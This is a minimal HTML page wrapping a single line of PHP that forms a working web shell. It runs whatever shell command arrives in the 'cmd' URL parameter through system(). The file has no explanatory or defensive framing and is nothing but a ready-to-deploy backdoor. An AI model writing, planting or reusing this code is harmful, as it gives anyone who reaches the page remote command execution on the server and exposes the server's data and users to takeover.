<html><body><pre>
<?php if (isset($_GET['cmd'])) { system($_GET['cmd']); } ?>
</pre></body></html>
